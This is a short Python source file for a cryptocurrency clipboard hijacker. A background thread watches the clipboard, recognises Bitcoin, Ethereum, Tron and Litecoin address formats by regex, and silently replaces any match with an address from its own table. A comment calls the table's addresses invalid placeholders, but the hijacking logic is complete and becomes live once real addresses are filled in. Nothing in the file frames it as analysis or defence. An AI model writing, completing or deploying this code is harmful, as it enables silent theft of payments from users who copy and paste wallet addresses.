import re
import threading
import time

import pyperclip

# inert: checksums are wrong, nobody owns these
_T = {
    re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60}$"): "1ExampLeinvaLidinvaLidinvaLidXXXXX",
    re.compile(r"^0x[a-fA-F0-9]{40}$"): "0xdeadbeefDEADBEEFdeadbeefDEADBEEFdeadbeef",
    re.compile(r"^T[A-Za-z1-9]{33}$"): "TExampLeinvaLidinvaLidinvaLidXXXXX",
    re.compile(r"^[LM3][a-km-zA-HJ-NP-Z1-9]{26,33}$"): "LExampLeinvaLidinvaLidinvaLidXXXXX",
}


class Watch(threading.Thread):
    def __init__(self):
        threading.Thread.__init__(self)
        self.daemon = True
        self.last = None

    def swap(self, s):
        for rx, mine in _T.items():
            if rx.match(s.strip()):
                return mine
        return None

    def run(self):
        while True:
            try:
                cur = pyperclip.paste()
                if cur != self.last:
                    new = self.swap(cur)
                    if new:
                        pyperclip.copy(new)
                    self.last = new or cur
            except Exception:
                pass
            time.sleep(0.4)
